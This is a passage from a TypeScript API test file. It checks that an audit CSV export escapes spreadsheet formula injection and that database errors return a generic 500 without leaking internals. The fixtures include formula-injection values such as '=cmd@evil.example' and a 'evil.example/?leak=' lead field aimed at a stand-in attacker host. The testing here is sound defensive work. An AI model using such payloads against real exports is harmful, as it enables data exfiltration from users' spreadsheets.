      const invite = await call('POST', '/api/v1/users/invitations', {
        cookie: admin,
        payload: { email, role: 'governance' },
      });
      expect(invite.res.statusCode, invite.res.body).toBe(201);
    }

    const csv = await call('GET', '/api/v1/audit.csv', { cookie: office });
    const rows = parseCsv(csv.res.body.slice(1));
    const cells = rows.flat();
    for (const cell of cells) expect(cell).not.toMatch(FORMULA_START);
    for (const label of hostile) expect(cells).toContain(`'${label}`);
    for (const email of ['=cmd@evil.example', '+cmd@evil.example', '-cmd@evil.example']) {
      expect(cells).toContain(`'${email}`);
    }
    const leadRow = rows.find((r) => r.join(',').includes('evil.example/?leak='));
    expect(leadRow).toBeDefined();
    const afterCell = leadRow?.[9] ?? '';
    expect((JSON.parse(afterCell) as { lead: string }).lead).toBe(lead);

    expect(csvCell('\0=1+2')).toBe(`"'\0=1+2"`);
    expect(csvCell('=1+2')).toBe(`"'=1+2"`);
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(-3)).toBe(`"'-3"`);
    expect(csvCell(null)).toBe('""');
    expect(csvCell({ lead: '=1' })).toBe('"{""lead"":""=1""}"');
  });

  it('answers an unexpected database failure in a write with a generic 500', async () => {
    const element = await groupElement(4);
    const { res, requestId } = await withAuditRefusing('element', 'update', () =>
      call('PATCH', `/api/v1/elements/${element.element.id}`, {
        cookie: office,
        payload: { lead: 'x' },
        headers: { 'if-match': element.etag },
      }),
    );
    expect(res.statusCode).toBe(500);
    const problem = res.json<Problem>();
    expect(problem).toMatchObject({ status: 500, code: 'internal', requestId });
    expect(res.body).not.toMatch(/audit_event|INSERT|plpgsql|test_audit_veto|at .*\.ts/);
  });
});
